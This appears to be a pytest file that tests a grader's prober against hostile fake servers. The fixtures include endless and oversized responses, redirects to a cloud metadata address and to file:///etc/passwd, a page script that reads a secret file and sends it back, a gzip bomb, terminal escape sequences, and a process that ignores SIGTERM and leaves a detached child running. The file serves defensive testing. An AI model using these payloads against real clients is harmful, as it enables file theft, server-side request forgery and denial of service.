"""Servers that attack whoever asks them: bodies and heads without end, redirects elsewhere, pages with a will of their own."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from tests.running.arena import Arena, Case, Told

pytestmark = [pytest.mark.slow, pytest.mark.timeout(300)]

PROBE = 14.0
RAW = """
    import os, socket, sys, threading, time
    from fastapi import FastAPI

    app = FastAPI()

    @app.get("/hives")
    def hives():
        return []

    HEAD = b"HTTP/1.1 200 OK\\r\\n"

    def answer(connection):
        {body}

    def one(connection):
        try:
            connection.recv(65536)
            answer(connection)
            connection.close()
        except OSError:
            pass

    server = socket.create_server(("127.0.0.1", int(os.environ["PORT"])), backlog=64)
    while True:
        threading.Thread(target=one, args=(server.accept()[0],), daemon=True).start()
    """
PAGE = """
    import os
    from fastapi import FastAPI
    from fastapi.responses import HTMLResponse, RedirectResponse, Response, StreamingResponse

    app = FastAPI()
    """
HIVES = """
    @app.get("/hives")
    def hives():
        return []

"""


def bounded(told: Told) -> None:
    assert told.server.step.how == "exit"
    assert all(len(e.body) <= 500 and len(e.headers) <= 60 for e in told.server.exchanges)
    assert told.server.reached
    assert "\x1b" not in told.text
    assert not any(f.outcome.value == "not_met" for f in told.findings.values())


def unreached(told: Told) -> None:
    assert not told.server.reached
    starts = told.findings["run-service.starts"]
    assert (starts.outcome.value in ("inconclusive", "partly"), bool(starts.reason)) == (True, True) or starts.reason, starts


def raw(*lines: str, then: Callable[[Told], None] = bounded) -> Case:
    """Return a server that answers each call by these lines."""
    return Case({"api/main.py": RAW.replace("{body}", "\n        ".join(lines))}, kind="serve", then=then, seconds=70)


def page(body: str, then: Callable[[Told], None] = bounded) -> Case:
    """Return a FastAPI application of this body."""
    return Case({"api/main.py": PAGE + body}, kind="serve", then=then, seconds=70)


CASES = {
    "an endless body": raw(
        'connection.sendall(HEAD + b"Content-Type: application/json\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n")',
        'while True: connection.sendall(b"10000\\r\\n" + b"a" * 65536 + b"\\r\\n")',
    ),
    "a gigabyte of headers": raw(
        "connection.sendall(HEAD)",
        'for n in range(20_000): connection.sendall(b"X-A: " + b"a" * 60_000 + b"\\r\\n")',
    ),
    "a drop at a time": raw(
        "connection.sendall(HEAD)",
        "while True:",
        '    connection.sendall(b"X-A: a\\r\\n")',
        "    time.sleep(0.3)",
    ),
    "silence": raw("time.sleep(600)"),
    "redirects to the machine and elsewhere": raw(
        "import itertools, random",
        "to = random.choice([f'http://{a}:@PORT@/' for a in @ADDRESSES@] + ['http://169.254.169.254/', 'file:///etc/passwd', '/', '//evil/'])",
        'connection.sendall(f"HTTP/1.1 302 Found\\r\\nLocation: {to}\\r\\nContent-Length: 0\\r\\n\\r\\n".encode())',
    ),
    "nonsense": raw("connection.sendall(os.urandom(100_000))"),
    "a page that calls home, reads files and never ends": page("""
    SCRIPT = "".join(
        f"<img src=http://{a}:@PORT@/><script src=http://{a}:@PORT@/></script><iframe src=http://{a}:@PORT@/></iframe>" for a in @ADDRESSES@
    ) + '''<iframe src=file://@SECRET@></iframe><object data=file:///etc/passwd></object><meta http-equiv=refresh content="1;url=file://@SECRET@">
    <script>fetch("file://@SECRET@").then(r => r.text()).then(t => fetch("/told?" + t));
    new WebSocket("ws://127.0.0.1:@PORT@"); window.open("/"); alert(1); navigator.sendBeacon("http://127.0.0.1:@PORT@");
    setTimeout(() => { while (true) {} }, 500);</script>'''

    @app.get("/", response_class=HTMLResponse)
    def home():
        return "<h1>Hives</h1>" + SCRIPT

    @app.get("/told")
    def told(t: str = ""):
        return t
    """),
    "a document that leads elsewhere": page("""
    def openapi():
        return {"openapi": "3.1.0", "info": {"title": "\\x1b[2J<script>", "version": "1"},
                "servers": [{"url": f"http://{a}:@PORT@"} for a in @ADDRESSES@],
                "paths": {"/hives": {"$ref": "http://127.0.0.1:@PORT@/x"}, "/a" * 300: {},
                          "/b": {"get": {"parameters": [{"$ref": "file://@SECRET@"}], "responses": {"200": {"$ref": "#/paths"}}}},
                          "/c": {"get": {"responses": {"200": {"content": {"application/json": {"schema": {"$ref": "file:///etc/passwd"}}}}}}}}}
    app.openapi = openapi

    @app.get("/b")
    def b():
        return {}
    """),
    "a document without end": page("""
    @app.get("/hives")
    def hives():
        return []

    def endless():
        yield b'{"openapi": "3.1.0", "paths": {'
        while True:
            yield b'"/a": {},' * 1000

    app.router.routes[:] = [r for r in app.router.routes if getattr(r, "path", "") != "/openapi.json"]

    @app.get("/openapi.json", include_in_schema=False)
    def document():
        return StreamingResponse(endless(), media_type="application/json")
    """),
    "a bomb and words for a terminal": page("""
    import gzip

    @app.get("/hives")
    def hives():
        head = {"Content-Encoding": "gzip", "X-\\x07": "a"} if False else {"Content-Encoding": "gzip"}
        return Response(gzip.compress(b"0" * 200_000_000), headers=head, media_type="application/json")

    @app.get("/", response_class=Response)
    def home():
        return Response("\\x1b]0;owned\\x07\\x1b[2J\\u202e<script>alert(1)</script>", media_type="text/plain")
    """),
    "one that kills itself when asked": page(
        """
    @app.get("/hives")
    def hives():
        os.kill(os.getpid(), 9)

    @app.get("/")
    def home():
        os.kill(os.getpid(), 9)
    """,
        lambda told: None,
    ),
    "one that leaves another in its place": page("""
    import signal, subprocess
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    subprocess.Popen(["sh", "-c", "setsid sh -c 'while :; do sleep 1; : @MARK@; done' &"], start_new_session=True)

    @app.get("/hives")
    def hives():
        subprocess.Popen(["setsid", "sleep", "602"])
        return []
    """),
    "one that never listens": page(HIVES + "    while True: pass\n", unreached),
    "one that ends at once": page(HIVES + "    os._exit(0)\n", unreached),
}


@pytest.mark.parametrize("name", CASES)
def test_the_prober_gets_away(arena: Arena, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("grader.running.PROBE_SECONDS", PROBE)
    monkeypatch.setitem(__import__("grader.running", fromlist=["SECONDS"]).SECONDS, "serve", 40)
    arena.play(CASES[name])
